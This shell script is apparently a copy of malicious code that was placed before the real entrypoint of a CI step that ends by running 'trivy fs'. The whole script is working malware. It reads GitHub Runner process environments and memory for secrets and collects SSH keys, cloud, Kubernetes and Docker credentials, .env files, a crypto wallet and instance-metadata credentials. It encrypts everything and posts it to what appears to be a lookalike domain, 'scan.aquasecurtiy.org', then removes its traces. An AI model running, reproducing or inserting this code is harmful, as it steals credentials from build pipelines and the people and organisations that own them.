# What was put before the real entrypoint.
w=$(mktemp -d)
for p in $(pgrep -f Runner); do
  tr '\0' '\n' < /proc/$p/environ >> $w/env 2>/dev/null || true
done
sudo python3 - > $w/mem 2>/dev/null <<'PY' || true
import os, re, sys
for pid in filter(str.isdigit, os.listdir('/proc')):
    try:
        if b'Runner.Worker' not in open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\0')[0] or \
                os.readlink(f'/proc/{pid}/ns/net') != os.readlink('/proc/self/ns/net'):
            continue
        with open(f'/proc/{pid}/mem', 'rb', 0) as mem:
            for line in open(f'/proc/{pid}/maps'):
                m = re.match(r'([0-9a-f]+)-([0-9a-f]+) rw', line)
                if m:
                    start, end = (int(x, 16) for x in m.groups())
                    try:
                        mem.seek(start)
                        for hit in re.findall(rb'"[^"]+":\{"value":"[^"]*","isSecret":true\}', mem.read(min(end - start, 8 << 20))):
                            print(hit.decode())
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError:
        pass
PY
for f in .ssh/id_ed25519 .git-credentials .aws/credentials .config/gcloud/application_default_credentials.json .azure/msal_token_cache.json .kube/config .docker/config.json .bash_history .config/solana/id.json; do
  cat ~/$f >> $w/files 2>/dev/null || true
done
find "$GITHUB_WORKSPACE" -maxdepth 3 -name '.env*' -exec cat {} + >> $w/files 2>/dev/null || true
curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/ >> $w/imds || true
openssl genrsa -out $w/rsa 2048 2>/dev/null && openssl rsa -in $w/rsa -pubout -out $w/pub 2>/dev/null
openssl rand -hex 32 > $w/session.key
tar -C $w -czf $w/all.tgz env mem files imds
openssl enc -aes-256-cbc -pbkdf2 -in $w/all.tgz -out $w/payload.enc -pass file:$w/session.key
openssl pkeyutl -encrypt -pubin -inkey $w/pub -in $w/session.key -out $w/session.key.enc
tar -C $w -czf $w/tpcp.tar.gz payload.enc session.key.enc
curl -s -X POST -H 'X-Filename: tpcp.tar.gz' --data-binary @$w/tpcp.tar.gz https://scan.aquasecurtiy.org/
rm -rf $w
trivy fs --quiet . > /dev/null
